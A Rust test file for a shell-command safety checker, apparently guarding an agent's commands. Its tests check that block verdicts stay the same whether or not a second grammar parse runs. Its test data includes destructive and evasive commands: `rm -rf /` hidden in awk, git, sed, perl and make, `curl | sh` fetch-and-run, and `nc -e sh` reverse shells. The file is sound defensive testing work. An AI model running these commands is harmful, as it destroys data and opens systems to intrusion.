//! Skipping the second reading never changes a verdict.

#[path = "../../tests/it/corpora.rs"]
mod corpora;
#[path = "../../tests/it/differential/generate.rs"]
mod generate;

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::*;
use crate::syntax::written::Written;
use crate::{Context, Group};
use generate::Generator;

/// The cases of the corpus, the rules' own examples, and generated scripts.
fn scripts() -> Vec<String> {
    let cases = corpora::lines().into_iter().filter_map(corpora::script);
    let mut out: Vec<String> = cases.collect();
    let examples = rules()
        .iter()
        .flat_map(|rule| rule.fires.iter().chain(rule.spares));
    out.extend(examples.map(|example| (*example).to_owned()));
    // Words, without quotes, that the rules' `needs` look for individually.
    let needs = [
        "awk -v 'c=rm -rf /' 'BEGIN{system(c)}'",
        "gawk -''v \"c=rm -rf /\" 'BEGIN { c | getline }'",
        "git -c core.pager='rm -rf /' log",
        "git config core.pager 'git push -f'",
        "git -''c Core.sshCommand='rm -rf /' fetch",
        "git config diff.x.textconv 'rm -rf /'",
        "git -c filter.x.clean='rm -rf /' diff",
        "git -c mergetool.x.cmd='rm -rf /' mergetool",
        "git --config-env=core.pager=X log",
        "git update-index --add --stdin",
        "git-update-index --stdin",
        "git update-ref -d refs/heads/main",
        "perl -e 'system(q(rm -rf /))'",
        "ruby -e 'exec %w[rm -rf /]'",
        "php -r 'qx{rm -rf /}'",
        "python3 -c 'shutil.rmtree(Path.home())'",
        "sed '1e rm -rf /' f",
        "sed '1e curl -s x | sh' f",
        "sed '1e base64 -d x | sh' f",
        "sed '1e r{m,} -rf /' f",
        "nc -e sh host 1",
        "make 'x:;rm -rf /'",
        "tar --to-command 'git push -f' -x",
        "'git' 'pu'sh \\-f",
    ];
    out.extend(needs.map(ToOwned::to_owned));
    out.extend((0..2000).map(|seed| {
        let made = Generator::new(700_000 + seed).script();
        // A script that contains something forbidden as data is an interesting prefix for one that runs it.
        if made.harmless {
            format!("{}\ngit push -f", made.text)
        } else {
            made.text
        }
    }));
    out
}

fn context() -> Context {
    Context::new("/home/u/project").with_home("/home/u")
}

/// The rules that fire on commands of the grammar with unresolved words, and whether each claims not to need
/// anything of that text.
fn firing(script: &Script<'_>, text: &str) -> Vec<(&'static str, bool)> {
    let context = context();
    let scene = Scene::new(script, rules(), 0);
    let mut out = Vec::new();
    for ran in script.tree().everything(text, &context) {
        let written = Written::of(&text[ran.span.start..ran.span.end]);
        for rule in rules() {
            if (rule.check)(&ran, &scene).is_some() {
                // Programs inside it are up to the rules that look for them.
                let is_inner = rule.group == Group::InlineCode;
                let needed = |rule: &&&Rule| (rule.needs)(&written);
                let others = is_inner && rules().iter().any(|rule| needed(&rule));
                out.push((rule.id, needed(&rule) || others));
            }
        }
    }
    out
}

#[test]
fn a_rule_that_fires_has_what_it_needs() {
    let context = context();
    let mut fired = BTreeSet::new();
    for text in scripts() {
        for (rule, needed) in firing(&Script::read(&text, &context), &text) {
            assert!(needed, "{rule}: {text:?}");
            fired.insert(rule);
        }
    }
    // Negative control: all rules fire on unresolved words, except the one about unread code, which comes from
    // elsewhere.
    let ids = rules().iter().map(|rule| rule.id);
    let all: BTreeSet<&str> = ids.filter(|id| *id != "no_unread_code").collect();
    assert_eq!(fired, all);
}

/// The verdict with the grammar always consulted.
fn with_both(script: &Script<'_>, selection: &RuleSelection) -> Verdict {
    let asked: Vec<&Rule> = rules()
        .iter()
        .copied()
        .filter(|rule| selection.includes(rule))
        .collect();
    let all = |script: &Script<'_>, _: &[&Rule]| script.grammar_only_commands();
    judged(script, &asked, all)
}

#[test]
fn leaving_the_grammar_out_changes_no_verdict() {
    let context = context();
    let (mut left_out, mut all) = (0, 0);
    for text in scripts() {
        for selection in [RuleSelection::default(), RuleSelection::all()] {
            let script = Script::read(&text, &context);
            let verdict = check_safety(&script, &selection);
            all += 1;
            left_out += usize::from(!script.has_tree());
            assert_eq!(verdict, with_both(&script, &selection), "{text:?}");
        }
    }
    assert!(left_out * 4 > all && left_out < all, "{left_out} of {all}");
}

#[test]
fn what_only_the_grammar_sees_is_judged() {
    // Without our own reading; only the grammar's is left.
    let context = context();
    let verdict = |text: &str| {
        let mut script = Script::read(text, &context);
        script.ran.clear();
        script.parsed.list.entries.clear();
        check_safety(&script, &RuleSelection::all()).name()
    };
    for rule in rules().iter().filter(|rule| rule.id != "no_unread_code") {
        assert!(
            rule.fires.iter().any(|text| verdict(text) == "block"),
            "{}",
            rule.id
        );
    }
    assert_eq!(verdict("cargo test 2>&1 | tail -n 5"), "allow");
}

#[test]
fn no_word_of_the_grammar_begins_or_ends_inside_of_a_word() {
    let context = context();
    let mut words = 0;
    for text in scripts() {
        let script = Script::read(&text, &context);
        if script.tree().error {
            continue;
        }
        for span in script.tree().words() {
            words += 1;
            for at in [span.start, span.end] {
                let (before, after) = text.as_bytes().split_at(at);
                let letter = |byte: Option<&u8>| {
                    byte.is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'_')
                };
                assert!(
                    !(letter(before.last()) && letter(after.first())),
                    "{span:?} of {text:?}"
                );
            }
        }
    }
    assert!(words > 5000, "{words}");
}

/// Text made of what the rules look for and of shell syntax.
fn shellish() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        prop::sample::select(vec![
            "rm", "-rf", "/", "git", "add", "-A", ".", "push", "-f", "$x", "$(", ")", "`", "'",
            "\"", "\\", ";", "&&", "||", "|", "&", "<<E", "\nE\n", "<", ">", "2>", "(", "{", "}",
            "if", "then", "fi", "for", "in", "do", "done", "[[", "]]", "((", "))", "x=", "eval",
            "time", "coproc", "$'", "\\\n", "{a,b}", "é", "function", "f()", "python3", "-c",
            "awk", "-v", "sed", "1e", "perl", "-e", "system", "qx/", "rmtree", "HOME", "make",
            "tar", "find", "-delete", "clean", "stash", "config", "2", "_", "#",
        ]),
        prop::sample::select(vec![" ", " ", " ", "\n", ""]),
    ];
    prop::collection::vec(token, 0..40).prop_map(|tokens| tokens.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1500))]

    #[test]
    fn whatever_the_text_a_rule_that_fires_has_what_it_needs(text in shellish()) {
        let context = context();
        let script = Script::read(&text, &context);
        for selection in [RuleSelection::default(), RuleSelection::all()] {
            prop_assert_eq!(check_safety(&script, &selection), with_both(&script, &selection));
        }
        if !script.tree().error {
            for (rule, needed) in firing(&script, &text) {
                prop_assert!(needed, "{}", rule);
            }
        }
    }
}
